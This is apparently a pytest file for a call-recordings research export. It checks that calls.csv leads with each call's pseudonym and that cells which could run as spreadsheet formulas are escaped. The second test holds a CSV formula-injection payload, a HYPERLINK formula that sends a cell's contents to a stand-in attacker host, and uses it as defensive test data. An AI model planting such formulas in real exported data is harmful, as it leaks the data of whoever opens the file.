"""calls.csv always names each call by its pseudonym, whatever metadata the batch chose: with only "queue" and
"language" ticked, its rows could be matched with no call's folder (and told apart from no other row)."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable

from sqlalchemy import update
from sqlalchemy.orm import Session

from jobs import research as research_jobs
from recordings_service.models import ResearchBatch
from recordings_service.runtime import Runtime
from tests.factories.research import research_call


def test_the_call_pseudonym_is_the_first_column_whatever_fields_were_chosen(
    session: Session,
    runtime: Runtime,
    approved_batch: Callable[..., ResearchBatch],
    built_package: Callable[[ResearchBatch], zipfile.ZipFile],
) -> None:
    for _ in range(2):
        research_call(session, runtime.store, runtime.envelope)
    batch = approved_batch()
    chosen = ["queue", "language"]  # as the selection form sends them: the call is not a field to tick
    session.execute(update(ResearchBatch).where(ResearchBatch.id == batch.id).values(metadata_fields=chosen))
    session.commit()

    research_jobs.build_batches(runtime)

    session.refresh(batch)
    package = built_package(batch)
    rows = list(csv.DictReader(io.StringIO(package.read("calls.csv").decode())))
    assert list(rows[0]) == ["call", "queue", "language"]
    folders = {name.split("/")[1] for name in package.namelist() if name.startswith("calls/")}
    assert sorted(row["call"] for row in rows) == sorted(folders) and len(folders) == 2


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
    session: Session,
    runtime: Runtime,
    approved_batch: Callable[..., ResearchBatch],
    built_package: Callable[[ResearchBatch], zipfile.ZipFile],
) -> None:
    """Found by a security pass: a queue name is whatever the telephony system sent, and calls.csv wrote it as it
    came, so that the institute's spreadsheet ran `=HYPERLINK(…)` (every other CSV the service writes was safe)."""
    formula = '=HYPERLINK("https://evil.example/?leak="&A2,"open")'
    research_call(session, runtime.store, runtime.envelope, queue=formula)
    batch = approved_batch()

    research_jobs.build_batches(runtime)

    session.refresh(batch)
    rows = list(csv.DictReader(io.StringIO(built_package(batch).read("calls.csv").decode())))
    assert [row["queue"] for row in rows] == ["'" + formula]
